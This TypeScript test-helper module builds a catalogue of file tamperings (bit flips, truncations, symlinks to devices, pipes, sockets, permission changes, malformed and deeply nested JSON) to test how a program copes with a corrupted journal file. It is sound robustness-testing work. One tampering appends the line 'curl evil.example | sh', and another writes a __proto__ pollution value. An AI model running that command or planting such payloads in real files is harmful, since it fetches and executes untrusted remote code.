import { execFileSync } from 'node:child_process';
import {
  appendFileSync,
  chmodSync,
  chownSync,
  closeSync,
  copyFileSync,
  mkdirSync,
  openSync,
  readFileSync,
  renameSync,
  rmSync,
  statSync,
  symlinkSync,
  truncateSync,
  writeFileSync,
} from 'node:fs';
import { createServer } from 'node:net';
import { basename } from 'node:path';
import { onTestFinished } from 'vitest';
import { chance, SEED } from './tally';

/** One way of laying hands on a file. */
export interface Tampering {
  readonly name: string;
  readonly act: (path: string) => void | Promise<void>;
  /** What lies there afterwards is still an ordinary file of the person's that nobody else may write to. */
  readonly only?: 'content';
}

const IS_ROOT = process.getuid?.() === 0;
const HUGE = 100 * 1024 * 1024;
const SOMEBODY_ELSE = 4_242;

const rewrite =
  (change: (bytes: Buffer) => Uint8Array | string) =>
  (path: string): void =>
    writeFileSync(path, change(readFileSync(path)));
const lines =
  (change: (lines: readonly string[]) => readonly string[]) =>
  (path: string): void =>
    rewrite((bytes) => `${change(bytes.toString('utf8').trimEnd().split('\n')).join('\n')}\n`)(path);
const content = (name: string, act: Tampering['act']): Tampering => ({ name, act, only: 'content' });

/** Ways of changing what a file holds, which need nothing but its bytes. */
function ofContent(): readonly Tampering[] {
  const next = chance(SEED);
  const flipped = Array.from({ length: 6 }, (_, index) => {
    const [where, bit] = [next(), Math.floor(next() * 8)];
    return content(
      `bit ${bit} flipped at ${Math.floor(where * 100)} % (${index + 1})`,
      rewrite((bytes) => {
        const at = Math.floor(where * bytes.length);
        bytes[at] = (bytes[at] ?? 0) ^ (1 << bit);
        return bytes;
      }),
    );
  });
  const cut = [0, 0.1, 0.25, 0.5, 0.75, 0.9].map((part) =>
    content(`cut off at ${part * 100} %`, (path) => truncateSync(path, Math.floor(statSync(path).size * part))),
  );
  return [
    ...flipped,
    ...cut,
    content('without its last byte', (path) => truncateSync(path, statSync(path).size - 1)),
    content(
      'without its first line',
      lines((all) => all.slice(1)),
    ),
    content(
      'without its second line',
      lines((all) => all.filter((_, index) => index !== 1)),
    ),
    content(
      'with its lines in reverse',
      lines((all) => [...all].reverse()),
    ),
    content(
      'with its first line twice',
      lines((all) => [...all.slice(0, 1), ...all]),
    ),
    content(
      'with its last line twice',
      lines((all) => [...all, ...all.slice(-1)]),
    ),
    content(
      'with everything twice',
      rewrite((bytes) => Buffer.concat([bytes, bytes])),
    ),
    content(
      'with an empty line in its midst',
      lines((all) => [...all.slice(0, 1), '', ...all.slice(1)]),
    ),
    content(
      'with lines that end as on Windows',
      rewrite((bytes) => bytes.toString('utf8').replaceAll('\n', '\r\n')),
    ),
    content(
      'with a byte-order mark',
      rewrite((bytes) => Buffer.concat([Buffer.from('\ufeff'), bytes])),
    ),
    content('with zeros after its end', (path) => appendFileSync(path, Buffer.alloc(64))),
    content('with words after its end', (path) => appendFileSync(path, 'curl evil.example | sh\n')),
    content('of bytes that are no text', (path) => writeFileSync(path, Buffer.from([0xff, 0xfe, 0x00, 0xd8, 0xff]))),
    content('of one brace', (path) => writeFileSync(path, '{')),
    content('of another JSON', (path) => writeFileSync(path, '{"schema":"batten.journal/1","__proto__":{"a":1}}\n')),
    content('of very deep JSON', (path) => writeFileSync(path, `${'['.repeat(200_000)}\n`)),
    content(
      'of another version',
      rewrite((bytes) => bytes.toString('utf8').replace(/(batten\.[a-z]+)\/1/g, '$1/2')),
    ),
    content('huge, its rest full of nothing', (path) => truncateSync(path, HUGE)),
    content('huge and nothing else', (path) => {
      truncateSync(path, 0);
      truncateSync(path, HUGE);
    }),
  ];
}

/** Ways of putting something else in the place of a file, or of changing whose it is. */
function ofKind(): readonly Tampering[] {
  const aside = (path: string): string => {
    const other = `${path}.aside`;
    renameSync(path, other);
    return other;
  };
  const all: readonly (Tampering & { readonly root?: true })[] = [
    { name: 'a link to what it was', act: (path) => symlinkSync(aside(path), path) },
    { name: 'a link to itself', act: (path) => (rmSync(path), symlinkSync(basename(path), path)) },
    { name: 'a link to nothing', act: (path) => (rmSync(path), symlinkSync(`${path}.nowhere`, path)) },
    { name: 'a link to a source without end', act: (path) => (rmSync(path), symlinkSync('/dev/zero', path)) },
    { name: 'a link to the terminal', act: (path) => (rmSync(path), symlinkSync('/dev/tty', path)) },
    { name: 'an empty folder', act: (path) => (rmSync(path), mkdirSync(path)) },
    {
      name: 'a folder with something in it',
      act: (path) => (rmSync(path), mkdirSync(path), writeFileSync(`${path}/x`, '')),
    },
    { name: 'a pipe that nobody writes to', act: (path) => (rmSync(path), void execFileSync('mkfifo', [path])) },
    {
      name: 'a link to such a pipe',
      act: (path) => (execFileSync('mkfifo', [`${path}.pipe`]), rmSync(path), symlinkSync(`${path}.pipe`, path)),
    },
    { name: 'a socket', act: socketAt },
    {
      name: 'a device without end',
      act: (path) => (rmSync(path), void execFileSync('mknod', [path, 'c', '1', '5'])),
      root: true,
    },
    { name: 'somebody else’s', act: (path) => chownSync(path, SOMEBODY_ELSE, SOMEBODY_ELSE), root: true },
    { name: 'open to everybody', act: (path) => chmodSync(path, 0o666) },
    { name: 'open to its group', act: (path) => chmodSync(path, 0o620) },
    { name: 'closed to everybody', act: (path) => chmodSync(path, 0o000) },
    { name: 'not there', act: (path) => rmSync(path) },
    {
      name: 'a second name of another file',
      act: (path) => {
        copyFileSync(path, `${path}.other`);
        rmSync(path);
        execFileSync('ln', [`${path}.other`, path]);
        appendFileSync(`${path}.other`, 'x');
      },
    },
  ];
  return all.filter(({ root }) => root !== true || IS_ROOT);
}

/** Every way, each with a name of its own; nothing of it knows what the file is. */
export const TAMPERINGS: readonly Tampering[] = [...ofContent(), ...ofKind()];

/** A socket that stays there until the test is over. */
function socketAt(path: string): Promise<void> {
  rmSync(path);
  const server = createServer();
  onTestFinished(() => void server.close());
  return new Promise((resolve) => server.listen(path, resolve));
}

/** How the complaint about something ends that does not come to an end. */
export const HANGS = ' hangs';

/** Waits for something that has to come to an end; a pipe that is opened the wrong way never does. */
export async function inTime<T>(what: string, act: () => Promise<T>): Promise<T> {
  let timer: NodeJS.Timeout | undefined;
  const late = new Promise<never>((_, reject) => {
    timer = setTimeout(() => reject(new Error(`${what}${HANGS}`)), 20_000);
  });
  try {
    return await Promise.race([act(), late]);
  } finally {
    clearTimeout(timer);
  }
}

/** Ends what waits for a pipe, so that a test that finds a hang does not hang itself. */
export function openPipe(path: string): void {
  try {
    closeSync(openSync(path, 'r+'));
  } catch {
    // It is no pipe.
  }
}
